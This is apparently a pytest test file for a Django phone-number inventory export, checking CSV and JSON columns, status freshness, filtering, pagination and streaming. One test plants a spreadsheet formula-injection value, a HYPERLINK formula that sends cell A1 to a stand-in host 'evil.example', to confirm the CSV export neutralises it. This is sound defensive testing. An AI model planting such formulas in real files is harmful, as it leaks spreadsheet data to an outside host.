"""/reports/numbers/ (numbers.reports.inventory, selectors.inventory): the
inventory export. Time stands at T0, when the factories' numbers were last
observed: their statuses are fresh until a test moves time on."""

from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from django.db import connection
from django.db.models import QuerySet
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext

from exoinventory.numbers.models import MIRRORED_FIELDS, ExoPhone
from exoinventory.numbers.selectors.inventory import EXPORT_CHUNK_SIZE
from tests.factories import T0, make_account, make_exophone, make_user
from tests.test_reports_base import body, bulk_exophones, csv_table, json_of

pytestmark = pytest.mark.django_db

NUMBERS = "/reports/numbers/"
COLUMNS = [
    "account_sid",
    "sid",
    "phone_number",
    "friendly_name",
    "voice_capable",
    "sms_capable",
    "country",
    "region",
    "one_time_price",
    "rental_price",
    "incoming_rate",
    "incoming_pulse",
    "currency",
    "number_type",
    "vanity_number",
    "voice_url",
    "sms_url",
    "uri",
    "date_created",
    "date_updated",
    "owner",
    "cost_centre",
    "incoming_status",
    "outgoing_status",
    "released_at",
]


@pytest.fixture(autouse=True)
def _frozen_time(settings) -> Iterator[None]:
    settings.SYNC_INTERVAL_MINUTES = 5
    settings.LISTING_INTERVAL_MINUTES = 60
    settings.EXOTEL_RATE_LIMIT_PER_MINUTE = 50
    with time_machine.travel(T0, tick=False):
        yield


@pytest.fixture
def finance(client: Client) -> Client:
    client.force_login(make_user("fiona", groups=("Finance",)))
    return client


def test_the_columns_are_account_sid_and_every_mirrored_field_then_ours() -> None:
    assert COLUMNS[:2] == ["account_sid", "sid"]
    assert COLUMNS[2:20] == list(MIRRORED_FIELDS)


def test_the_json_has_every_field_of_every_number(finance: Client) -> None:
    phone = make_exophone(
        account=make_account(sid="acme"),
        sid="0113958aaaa",
        phone_number="+911139585476",
        friendly_name="Delhi helpline",
        rental_price=Decimal("1499.500000"),
        incoming_rate=None,
        sms_url="https://my.exotel.com/acme/exoml/start_sms/31",
        owner="Priya",
        cost_centre="CC-42",
        incoming_status="major_outage",
    )

    response = finance.get(NUMBERS, {"format": "json"})

    document = json_of(response)
    assert response["Content-Type"] == "application/json"
    assert document == {
        "numbers": [
            {
                "account_sid": "acme",
                "sid": "0113958aaaa",
                "phone_number": "+911139585476",
                "friendly_name": "Delhi helpline",
                "voice_capable": True,
                "sms_capable": False,
                "country": "IN",
                "region": "DL",
                "one_time_price": "0.00",
                "rental_price": "1499.50",
                "incoming_rate": None,
                "incoming_pulse": 60,
                "currency": "INR",
                "number_type": "Landline",
                "vanity_number": False,
                "voice_url": phone.voice_url,
                "sms_url": "https://my.exotel.com/acme/exoml/start_sms/31",
                "uri": phone.uri,
                "date_created": "2025-10-18T06:00:00Z",
                "date_updated": "2026-10-23T06:00:00Z",
                "owner": "Priya",
                "cost_centre": "CC-42",
                "incoming_status": "major_outage",
                "outgoing_status": "active",
                "released_at": None,
            }
        ]
    }
    assert list(document["numbers"][0]) == COLUMNS


def test_a_status_is_null_when_not_fresh_or_released_or_never_observed(
    finance: Client,
) -> None:
    make_exophone(phone_number="+911100000001")
    make_exophone(phone_number="+911100000002", released_at=T0 - timedelta(days=1))
    make_exophone(phone_number="+911100000003", incoming_status="", outgoing_status="")
    make_exophone(phone_number="+911100000004", connectivity_observed_at=T0 - timedelta(minutes=11))

    rows = json_of(finance.get(NUMBERS, {"format": "json"}))["numbers"]

    statuses = {
        row["phone_number"]: (row["incoming_status"], row["outgoing_status"]) for row in rows
    }
    assert statuses == {
        "+911100000001": ("active", "active"),
        "+911100000002": (None, None),
        "+911100000003": (None, None),
        "+911100000004": (None, None),
    }
    released = next(row for row in rows if row["phone_number"] == "+911100000002")
    assert released["released_at"] == "2026-11-21T06:00:00Z"


def test_the_csv_is_streamed_with_a_bom_a_header_and_plain_money(finance: Client) -> None:
    make_exophone(account=make_account(sid="acme"), rental_price=Decimal("1499.500000"))

    response = finance.get(NUMBERS, {"format": "csv"})

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="numbers-2026-11-22.csv"'
    table = csv_table(response)
    assert table[0] == COLUMNS
    row = dict(zip(COLUMNS, table[1], strict=True))
    assert row["rental_price"] == "1499.50"
    assert row["one_time_price"] == "0.00"
    assert row["voice_capable"] == "true"
    assert row["date_created"] == "2025-10-18T06:00:00Z"
    assert row["released_at"] == ""
    assert len(table) == 2


def test_the_csv_makes_cells_that_a_spreadsheet_would_run_inert(finance: Client) -> None:
    make_exophone(
        friendly_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        owner="@SUM(1+1)",
        cost_centre="-1+2",
    )

    table = csv_table(finance.get(NUMBERS, {"format": "csv"}))

    row = dict(zip(COLUMNS, table[1], strict=True))
    assert row["friendly_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["owner"] == "'@SUM(1+1)"
    assert row["cost_centre"] == "'-1+2"
    assert row["phone_number"].startswith("'+91")


def test_the_csv_and_json_are_filtered_by_account_and_released(finance: Client) -> None:
    acme, globex = make_account(sid="acme"), make_account(sid="globex")
    make_exophone(account=acme, phone_number="+911100000001")
    make_exophone(account=globex, phone_number="+911100000002")
    make_exophone(account=acme, phone_number="+911100000003", released_at=T0)

    def listed(**query: str) -> list[str]:
        rows = json_of(finance.get(NUMBERS, {"format": "json", **query}))["numbers"]
        return [row["phone_number"] for row in rows]

    assert listed() == ["+911100000001", "+911100000002", "+911100000003"]
    assert listed(account="acme") == ["+911100000001", "+911100000003"]
    assert listed(account="acme", released="no") == ["+911100000001"]
    assert listed(released="yes") == ["+911100000003"]
    assert listed(account="nobody") == []


def test_the_page_shows_100_numbers_at_a_time_with_downloads(finance: Client) -> None:
    bulk_exophones(150, account=make_account(sid="acme"), rental_price=Decimal("1499.5"))

    first = finance.get(NUMBERS, {"account": "acme"}).content.decode()
    second = finance.get(NUMBERS, {"account": "acme", "page": "2"}).content.decode()
    past = finance.get(NUMBERS, {"account": "acme", "page": "9"})

    assert first.count('<th scope="row">') == 100
    assert second.count('<th scope="row">') == 50
    assert "page 1 of 2" in first
    assert 'href="?account=acme&amp;page=2" rel="next"' in first
    assert 'href="?account=acme&amp;format=csv"' in second  # every page, not this one
    assert "INR 1,499.50" in first
    assert "150 numbers" in first
    assert past.status_code == 200
    assert "page 2 of 2" in past.content.decode()


@pytest.mark.parametrize("fmt", ["html", "csv", "json"])
def test_the_query_count_does_not_grow_with_the_numbers(finance: Client, fmt: str) -> None:
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = finance.get(NUMBERS, {"format": fmt})
            assert response.status_code == 200
            body(response)
        return len(captured)

    acme, globex = make_account(sid="acme"), make_account(sid="globex")
    bulk_exophones(5, account=acme)
    bulk_exophones(5, account=globex)
    few = queries()
    bulk_exophones(490, account=acme)
    many = queries()

    assert ExoPhone.objects.count() == 500
    assert few == many


def test_the_export_reads_the_numbers_in_chunks_as_it_streams(finance: Client, monkeypatch) -> None:
    # Flat memory at 100,000 numbers: the rows come from a chunked iterator
    # that the response reads only as it is sent.
    chunk_sizes = []
    iterator = QuerySet.iterator

    def spy(queryset: QuerySet, chunk_size: int | None = None) -> Iterator[object]:
        chunk_sizes.append(chunk_size)
        return iterator(queryset, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    bulk_exophones(30, account=make_account())

    for fmt in ("csv", "json"):
        response = finance.get(NUMBERS, {"format": fmt})
        assert isinstance(response, StreamingHttpResponse)
        assert chunk_sizes == []  # nothing read yet
        assert "+9180" in body(response)
        assert chunk_sizes == [EXPORT_CHUNK_SIZE]
        chunk_sizes.clear()
